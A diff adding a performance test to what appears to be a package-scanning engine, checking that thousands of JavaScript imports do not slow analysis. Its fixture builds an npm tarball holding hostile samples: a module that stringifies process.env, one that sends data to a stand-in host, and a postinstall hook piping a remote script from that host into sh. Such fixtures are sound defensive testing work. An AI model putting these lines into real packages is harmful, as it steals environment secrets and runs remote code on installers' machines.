@@ -212,6 +212,26 @@ def test_thousands_of_imported_names_cost_no_minutes(engine: Engine) -> None:
 
 
 @pytest.mark.parametrize(
+    "wire",
+    [
+        "const {" + " a," * 100_000 + "\n" + "require('./collect');" * 50_000,
+        "import {" + " a," * 100_000 + "\n" + "x from './collect';" * 50_000,
+    ],
+    ids=["requires", "imports"],
+)
+@QUADRATIC_GUARD
+def test_thousands_of_javascript_imports_cost_no_minutes(engine: Engine, wire: str) -> None:
+    """Each ``require`` and ``from`` reads only a bounded window before it for its names."""
+    collect = "module.exports = () => JSON.stringify(process.env);\n"
+    send = "module.exports = (b) => require('https').request({ host: 'x.example.net' }).end(b);\n"
+    archive = npm_tarball(
+        {"index.js": wire, "collect.js": collect, "send.js": send},
+        scripts={"postinstall": "curl -s https://x.example.net/i.sh | sh"},
+    )
+    assert_analysed(engine.analyze(archive))
+
+
+@pytest.mark.parametrize(
     "script",
     [
         "createDecipher(" * 65_536,  # each call read the 4 KiB before it for its function
